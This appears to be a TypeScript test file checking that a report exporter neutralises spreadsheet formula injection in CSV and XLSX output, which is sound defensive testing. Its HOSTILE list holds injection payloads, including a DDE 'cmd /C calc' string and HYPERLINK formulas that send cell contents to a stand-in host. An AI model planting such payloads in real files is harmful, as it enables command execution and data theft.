import { parse } from 'csv-parse/sync';
import { buildReport, type RawAggregates } from './report-builder';
import { BREAKDOWNS } from './report-params';
import ExcelJS from 'exceljs';
import { CSV_HEADER, csvField, REPORT_TEXT, toCsv, toXlsx } from './renderers';
import { DESCRIPTION_TEXT } from './report-description';

const HOSTILE = [
  '=HYPERLINK("http://evil.example","click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  'line\r\n=cmd|" /C calc"!A0',
  'quote " and, comma',
  '\u202eevil\u202c',
  'Полиция',
  'North,=HYPERLINK("http://x/?q="&A2),-2+3',
  'South;=HYPERLINK("http://x/");+1;@SUM(A1)',
  'East, "=1+1"; "-2"',
  '"=quoted"',
  'West;\t=1,\r-1',
];

function report(compare = false) {
  const count = (respondents: number) => ({ respondents, incidents: respondents, cellKey: respondents * 7 });
  const raw: RawAggregates = {
    crossTab: HOSTILE.map((_, i) => ({ row: `p${i}`, col: `a${i}`, ...count(10 + i) })),
    rowTotals: HOSTILE.map((_, i) => ({ row: `p${i}`, ...count(10 + i) })),
    columnTotals: HOSTILE.map((_, i) => ({ col: `a${i}`, ...count(10 + i) })),
    total: count(200),
    unasked: [],
    breakdowns: Object.fromEntries(BREAKDOWNS.map((b) => [b, compare ? HOSTILE.map((_, i) => ({ key: `b${i}`, ...count(10 + i) })) : []])) as unknown as RawAggregates['breakdowns'],
    ...(compare
      ? {
          comparison: {
            units: HOSTILE.map((_, i) => ({ unit: `u${i}`, ...count(20 + i) })),
            cells: HOSTILE.flatMap((_, u) => HOSTILE.map((_, c) => ({ unit: `u${u}`, col: `a${c}`, ...count(10 + c) }))),
            unasked: [],
          },
        }
      : {}),
  };
  const labels = (_vocabulary: string, code: string) => HOSTILE[Number(code.slice(1))];
  // Labels reach the file from every filter too: countries, regions, region groups, genders, age bands, work settings.
  const filters = compare
    ? { countries: ['c13'], regions: ['r14'], regionGroups: ['g10', 'g11'], genders: ['x12'], ageBands: ['y3'], workSettings: ['z0'], perpetratorTypes: ['p9'], compareBy: 'region_group' as const }
    : {};
  return buildReport(raw, { perpetrators: 'type', abuses: 'type', lang: 'en', k: 5, perturbation: null, ...filters }, labels);
}

/**
 * Reads a CSV file as a spreadsheet that ignores quoting would: each line split
 * at commas and at semicolons, leading spaces and quotes dropped. The cells
 * that would start a formula.
 */
function formulaCells(csv: string): string[] {
  return csv
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(/[,;]/))
    .map((cell) => cell.replace(/^[ "]+/, ''))
    .filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

describe('CSV export', () => {
  it('round-trips hostile labels through a strict parser: the same cells back, no formula, no extra row', () => {
    const csv = toCsv(report());
    // The header block (lines starting with #) is skipped the documented way.
    // UTF-8 with a byte-order mark (Excel on Russian Windows needs it); a strict parser is told so.
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows: string[][] = parse(csv, { relax_quotes: false, relax_column_count: false, skip_empty_lines: false, bom: true, comment: '#', comment_no_infix: true });
    expect(rows[0]).toEqual(CSV_HEADER);
    const body = rows.slice(1).filter((r) => r.length > 1);
    // One line per published figure: the labels' CR and LF did not start new rows.
    expect(body.length).toBe(rows.length - 1);
    expect(body).toHaveLength(HOSTILE.length * HOSTILE.length + 2 * HOSTILE.length + 1);
    for (const row of body) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(row).toHaveLength(CSV_HEADER.length);
    }
    const labels = new Set(body.flatMap((r) => [r[2], r[4]]).filter(Boolean));
    // The same text back, with an apostrophe wherever a formula could start.
    const inert = [
      `'=HYPERLINK("http://evil.example","click")`,
      `'+1+1`,
      `'-2+3`,
      `'@SUM(A1:A2)`,
      `'\t=1+1`,
      `'\r'=1+1`,
      `line\r\n'=cmd|" /C calc"!A0`,
      `quote " and, comma`,
      '\u202eevil\u202c',
      'Полиция',
      `North,'=HYPERLINK("http://x/?q="&A2),'-2+3`,
      `South;'=HYPERLINK("http://x/");'+1;'@SUM(A1)`,
      `East, "'=1+1"; "'-2"`,
      `'"=quoted"`,
      `West;'\t=1,'\r'-1`,
    ];
    expect(inert).toHaveLength(HOSTILE.length);
    for (const expected of inert) expect([expected, labels.has(expected)]).toEqual([expected, true]);
  });

  it('has no cell that starts a formula, in the description block or the data, split at commas and semicolons, for labels in every place', () => {
    for (const compare of [false, true]) {
      const csv = toCsv(report(compare));
      expect(formulaCells(csv)).toEqual([]);
      const block = csv.replace(/^\uFEFF/, '').split('\n').filter((l) => l.startsWith('# '));
      expect(block.length).toBeGreaterThan(8);
      // A strict CSV reader that skips the block still reads the data.
      expect(parse(csv, { bom: true, comment: '#', comment_no_infix: true })[0]).toEqual(CSV_HEADER);
      if (compare) {
        // The hostile labels did reach the description (filters, bases) and the comparison: there, made inert.
        const text = block.join('\n');
        expect(text).toContain(`Region groups: "North,'=HYPERLINK(""http://x/?q=""&A2),'-2+3, South;'=HYPERLINK(""http://x/"");'+1;'@SUM(A1)"`);
        for (const hostile of [13, 14, 12, 3, 0]) expect(text).toContain(csvField(HOSTILE[hostile].replace(/[\r\n]+/g, ' ')).replace(/^"|"$/g, ''));
        const rows: string[][] = parse(csv, { bom: true, comment: '#', comment_no_infix: true });
        expect(rows.some((r) => r[0] === 'compare_region_group' && r[2] === `West;'\t=1,'\r'-1`)).toBe(true);
        expect(rows.some((r) => r[0] === 'by_gender' && r[2] === `North,'=HYPERLINK("http://x/?q="&A2),'-2+3`)).toBe(true);
      }
    }
    // The check finds what the old header block wrote: a label unquoted after "# filters:".
    expect(formulaCells('# filters: Region groups: North,=HYPERLINK("http://x/?q="&A2),-2+3\n')).toEqual(['=HYPERLINK("http://x/?q="&A2)', '-2+3']);
  });

  it('quotes and neutralises cell by cell', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('x\ry')).toBe('"x\ry"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a;=b')).toBe(`"a;'=b"`);
    expect(csvField('"=x"')).toBe(`"'""=x"""`);
    expect(csvField('25-34, 35-44')).toBe('"25-34, 35-44"');
    expect(csvField('\t=x')).toBe("'\t=x");
    expect(csvField(-3)).toBe('-3');
    expect(csvField(null)).toBe('');
  });

  it('writes XLSX cells as values, never as formulas, also for labels that look like formulas', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await toXlsx(report())) as unknown as ArrayBuffer);
    let cells = 0;
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells++;
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        }),
      ),
    );
    expect(cells).toBeGreaterThan(100);
  });

  it('has every export word in English and Russian, translated', () => {
    const paths = (o: object, prefix = ''): string[] => Object.entries(o).flatMap(([k, v]) => (typeof v === 'object' ? paths(v, `${prefix}${k}.`) : [`${prefix}${k}`]));
    expect(paths(REPORT_TEXT.ru).sort()).toEqual(paths(REPORT_TEXT.en).sort());
    const value = (o: object, path: string) => path.split('.').reduce<unknown>((x, k) => (x as Record<string, unknown>)[k], o);
    expect(paths(REPORT_TEXT.en).filter((p) => value(REPORT_TEXT.ru, p) === value(REPORT_TEXT.en, p))).toEqual([]);
    expect(paths(DESCRIPTION_TEXT.ru).sort()).toEqual(paths(DESCRIPTION_TEXT.en).sort());
    expect(paths(DESCRIPTION_TEXT.en).filter((p) => value(DESCRIPTION_TEXT.ru, p) === value(DESCRIPTION_TEXT.en, p))).toEqual([]);
  });
});
